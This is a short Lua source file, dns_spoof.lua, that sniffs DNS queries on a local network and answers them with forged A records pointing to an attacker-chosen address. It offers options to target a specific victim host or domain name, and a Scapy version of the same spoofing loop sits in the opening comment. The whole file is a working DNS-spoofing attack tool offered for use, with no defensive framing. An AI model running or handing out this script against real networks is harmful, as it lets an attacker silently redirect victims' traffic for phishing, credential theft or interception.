-- dns_spoof.lua - sniff-then-spoof for DNS: answer a victim's queries with
-- a forged A record before the real name server does.  The victim takes
-- the first answer whose id and question match its query, and the real
-- one, arriving later, is dropped.
--   Scapy: def spoof(p): send(IP(src=p[IP].dst, dst=p[IP].src)/UDP(sport=53, dport=p[UDP].sport)
--              /DNS(id=p[DNS].id, qr=1, aa=1, rd=1, ra=1, qd=p[DNS].qd,
--                   an=DNSRR(rrname=p[DNS].qd.qname, rdata=forged)))
--          sniff(filter="udp dst port 53 and src host victim", prn=spoof)
local o = require("pkt.cli").parse(arg, "Answer sniffed DNS queries with a forged A record.", {
  { "iface", "i", "interface to sniff on (default: the first one up)" },
  { "victim", "v", "only answer queries from this host (default: any)" },
  { "address", "a", "the address the forged record gives", default = "198.51.100.66" },
  { "name", "n", "only answer queries for this name (default: any)" },
  { "count", "c", "stop after this many answers (0: never)", default = 0, number = true },
  { "timeout", "t", "stop after this many seconds (0: never)", default = 0, number = true },
})

local filter = "udp dst port 53"
if o.victim then filter = filter .. " and src host " .. o.victim end
local want = o.name and (o.name:gsub("%.?$", ".")):lower()

local spoofed = 0
local function spoof(p)
  local ip, udp, dns = p[IP], p[UDP], p[DNS]
  local q = dns and dns.qr == 0 and dns.qd[1]
  if not q or q.qtype ~= 1 or (want and q.qname:lower() ~= want) then return end
  send(IP{src=ip.dst, dst=ip.src} / UDP{sport=53, dport=udp.sport}
    / DNS{id=dns.id, qr=1, aa=1, rd=dns.rd, ra=1, qd={q},
          an={{rrname=q.qname, type="A", ttl=300, rdata=o.address}}},
    {iface=o.iface, verbose=false})
  spoofed = spoofed + 1
  return ("spoofed %s A %s for %s"):format(q.qname, o.address, ip.src)
end

sniff{iface=o.iface, filter=filter, prn=spoof, store=false,
      stop_filter=function() return o.count > 0 and spoofed >= o.count end,
      timeout=o.timeout > 0 and o.timeout or nil,
      started_callback=function() print("waiting for DNS queries: " .. filter) io.stdout:flush() end}
print(("answers spoofed: %d"):format(spoofed))
